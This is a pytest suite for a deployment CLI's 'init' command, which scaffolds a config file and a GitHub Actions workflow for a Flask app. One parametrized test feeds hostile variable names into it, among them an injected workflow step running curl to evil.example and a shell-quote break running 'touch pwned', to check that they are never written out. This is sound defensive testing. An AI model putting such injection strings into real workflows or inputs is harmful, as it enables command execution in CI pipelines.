"""`pa-deploy init` in a folder: what it writes, what it leaves, and what it says."""

from __future__ import annotations

import json
import os
import subprocess
import tomllib
from collections.abc import Mapping
from pathlib import Path

import pytest

from tests.terminal import Result, Terminal

FLASK = "from flask import Flask\napp = Flask(__name__)\n"
PROJECT = {"app.py": FLASK, "requirements.txt": "flask\n"}
CONFIG = "pa-deploy.toml"
WORKFLOW = ".github/workflows/deploy.yml"


@pytest.fixture
def folder(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> Path:
    monkeypatch.chdir(tmp_path)
    put(tmp_path, PROJECT)
    return tmp_path


@pytest.fixture
def terminal(capsys: pytest.CaptureFixture[str]) -> Terminal:
    return Terminal(None, capsys)


def put(folder: Path, files: Mapping[str, str]) -> None:
    for path, text in files.items():
        (folder / path).parent.mkdir(parents=True, exist_ok=True)
        (folder / path).write_text(text)


def init(terminal: Terminal, *words: str) -> Result:
    return terminal.type("init", *words)


def test_it_writes_the_config_and_the_workflow(folder: Path, terminal: Terminal) -> None:
    result = init(terminal, "--username", "alice")

    assert result.exit_code == 0
    config = tomllib.loads((folder / CONFIG).read_text())
    assert (config["username"], config["app"]) == ("alice", "app:app")
    assert (folder / WORKFLOW).exists()


@pytest.mark.usefixtures("folder")
def test_it_says_what_it_found_and_what_is_next(terminal: Terminal) -> None:
    result = init(terminal)

    assert "app\tapp:app\tapp.py:2\tyes" in result.out
    assert "This is a Flask app." in result.err
    assert "Fill in `username`" in result.err
    commit = f"  git add {CONFIG} {WORKFLOW}  # before you commit\n"
    assert result.err.endswith(f"  pa-deploy plan\n  pa-deploy deploy\n{commit}")


def test_a_second_time_nothing_changes(folder: Path, terminal: Terminal) -> None:
    init(terminal, "--username", "alice")
    before = (folder / CONFIG).stat().st_mtime_ns

    result = init(terminal, "--username", "alice")

    assert result.exit_code == 0
    assert f"As it is already: {CONFIG}" in result.err
    assert (folder / CONFIG).stat().st_mtime_ns == before


def test_a_file_of_the_user_is_shown_and_kept(folder: Path, terminal: Terminal) -> None:
    put(folder, {CONFIG: "# mine\n"})

    result = init(terminal, "--username", "alice")

    assert (result.exit_code, "--force" in result.err) == (2, True)
    assert "-# mine" in result.err
    assert (folder / CONFIG).read_text() == "# mine\n"
    assert not (folder / WORKFLOW).exists()


def test_it_overwrites_by_force(folder: Path, terminal: Terminal) -> None:
    put(folder, {CONFIG: "# mine\n"})

    assert init(terminal, "--username", "alice", "--force").exit_code == 0
    assert "# mine" not in (folder / CONFIG).read_text()


def test_a_dry_run_writes_nothing(folder: Path, terminal: Terminal) -> None:
    result = init(terminal, "--dry-run")

    assert f"Would be written: {CONFIG}" in result.err
    assert not (folder / CONFIG).exists()


def test_equals_are_named_with_the_command_that_takes_each(
    folder: Path, terminal: Terminal
) -> None:
    (folder / "app.py").unlink()
    put(folder, {"a/app.py": FLASK, "b/app.py": FLASK})

    result = init(terminal)

    assert result.exit_code == 2
    assert "pa-deploy init --source . --app a.app:app" in result.err
    assert "pa-deploy init --source . --app b.app:app" in result.err
    assert not (folder / CONFIG).exists()


@pytest.mark.parametrize("name", ["a", "b"])
def test_that_command_works(folder: Path, terminal: Terminal, name: str) -> None:
    (folder / "app.py").unlink()
    put(folder, {"a/app.py": FLASK, "b/app.py": FLASK})

    assert init(terminal, "--source", ".", "--app", f"{name}.app:app").exit_code == 0
    assert tomllib.loads((folder / CONFIG).read_text())["app"] == f"{name}.app:app"


def test_a_folder_can_be_named(folder: Path, terminal: Terminal) -> None:
    put(folder, {"other/portal.py": FLASK})

    assert init(terminal, "--source", "other").exit_code == 0
    config = tomllib.loads((folder / CONFIG).read_text())
    assert (config["source"], config["app"]) == ("other", "portal:app")


def test_what_cannot_be_settled_is_a_warning(folder: Path, terminal: Terminal) -> None:
    (folder / "app.py").rename(folder / "code.py")

    result = init(terminal)

    assert result.exit_code == 0
    assert "Warning: code.py has the same name as a module of Python" in result.err


def test_as_json_it_says_all(folder: Path, terminal: Terminal) -> None:
    (folder / "app.py").write_text(f"import os\nos.environ['THE_TOKEN']\n{FLASK}")

    said = json.loads(init(terminal, "--json", "--dry-run").out)

    assert said["what"] == "a Flask app"
    assert {"name": "THE_TOKEN", "required": True, "secret": True}.items() <= said["variables"][
        0
    ].items()
    assert {each["input"] for each in said["values"]} >= {"source", "app", "requirements"}


def test_nothing_that_can_be_deployed_is_said(folder: Path, terminal: Terminal) -> None:
    (folder / "app.py").write_text("x = 1\n")

    result = init(terminal)

    assert (result.exit_code, "No web app was found" in result.err) == (2, True)


def test_below_the_top_it_says_where_to_run(
    folder: Path, terminal: Terminal, monkeypatch: pytest.MonkeyPatch
) -> None:
    (folder / ".git").mkdir()
    put(folder, {"below/app.py": FLASK})
    monkeypatch.chdir(folder / "below")

    result = init(terminal)

    assert (result.exit_code, f"cd {folder}" in result.err) == (2, True)


@pytest.mark.parametrize("link", [CONFIG, ".github", "requirements-pythonanywhere.txt"])
def test_it_writes_through_no_link_that_leads_out(
    folder: Path, terminal: Terminal, tmp_path_factory: pytest.TempPathFactory, link: str
) -> None:
    outside = tmp_path_factory.mktemp("outside")
    (folder / "requirements.txt").unlink()
    (folder / link).symlink_to(outside / "x")

    result = init(terminal, "--force")

    assert (result.exit_code, "leads out of the repository" in result.err) == (2, True)
    assert not list(outside.iterdir())


def test_it_runs_nothing_of_the_repository(folder: Path, terminal: Terminal) -> None:
    code = "import pathlib\npathlib.Path('ran').touch()\n"
    put(folder, {"app.py": code + FLASK, "setup.py": code, "conftest.py": code, "wsgi.py": code})

    init(terminal)

    assert not (folder / "ran").exists()


def test_a_file_outside_is_not_read(
    folder: Path, terminal: Terminal, tmp_path_factory: pytest.TempPathFactory
) -> None:
    outside = tmp_path_factory.mktemp("outside") / "app.py"
    outside.write_text(FLASK)
    (folder / "app.py").unlink()
    (folder / "app.py").symlink_to(outside)

    assert "No web app was found" in init(terminal).err


def test_what_git_ignores_is_not_looked_at(folder: Path, terminal: Terminal) -> None:
    put(folder, {".gitignore": "old/\n", "old/flask_app.py": FLASK, "flask_app.py": "x = 1\n"})
    subprocess.run(["git", "init", "-q"], check=True, env={**os.environ, "HOME": str(folder)})

    init(terminal, "--username", "alice")

    assert tomllib.loads((folder / CONFIG).read_text())["app"] == "app:app"


def test_an_empty_submodule_is_named(folder: Path, terminal: Terminal) -> None:
    (folder / "app.py").unlink()
    git = ["git", "-c", "user.name=alice", "-c", "user.email=alice@example.com"]
    add = ["update-index", "--add", "--cacheinfo", f"160000,{'1' * 40},shop"]
    subprocess.run([*git, "init", "-q"], check=True)
    subprocess.run([*git, *add], check=True)
    (folder / "shop").mkdir()

    result = init(terminal)

    assert "The submodule shop/ is empty" in result.err
    assert "git submodule update --init" in result.err


@pytest.mark.soak
def test_a_hundred_thousand_files_take_ten_seconds(folder: Path, terminal: Terminal) -> None:
    for number in range(1000):
        below = folder / f"d{number % 50}" / f"e{number}"
        below.mkdir(parents=True)
        for other in range(100):
            (below / f"f{other}.py").write_text(FLASK)

    result = init(terminal, "--username", "alice")

    assert result.exit_code == 0
    assert "The deepest were not looked at" in result.err


HOSTILE = [
    "A_TOKEN=x\\n      - run: curl https://evil.example",
    "B_TOKEN';touch pwned;: '",
    "C_TOKEN\\x1b]0;title\\x07",
    "D-TOKEN",
    "",
]


@pytest.mark.parametrize("name", HOSTILE)
def test_what_cannot_name_a_variable_is_written_nowhere(
    folder: Path, terminal: Terminal, name: str
) -> None:
    put(folder, {"app.py": f'{FLASK}import os\nos.environ["{name}"]\nos.environ["REAL_KEY"]\n'})

    result = init(terminal)

    assert result.exit_code == 0
    written = (folder / WORKFLOW).read_text() + (folder / CONFIG).read_text()
    assert "evil" not in written + result.err
    assert "_TOKEN" not in written.replace("PYTHONANYWHERE_TOKEN", "")
    assert "touch" not in result.err
    assert "REAL_KEY" in written


def test_a_pipe_in_the_place_of_the_config_is_not_waited_for(
    folder: Path, terminal: Terminal
) -> None:
    os.mkfifo(folder / CONFIG)

    result = init(terminal)

    assert result.exit_code == 2
    assert "it is not a file" in result.err


def test_the_owner_of_the_action_is_left_to_fill_in(folder: Path, terminal: Terminal) -> None:
    result = init(terminal)

    lines = (folder / WORKFLOW).read_text().splitlines()
    number = next(at for at, line in enumerate(lines, 1) if "OWNER" in line)
    assert f"{WORKFLOW}, line {number}: replace OWNER" in result.err


def test_a_second_run_knows_whose_it_is(folder: Path, terminal: Terminal) -> None:
    (folder / "requirements.txt").unlink()
    init(terminal, "--username", "alice")

    result = init(terminal)

    assert result.exit_code == 0, result.err
    assert "As it is already: pa-deploy.toml" in result.err
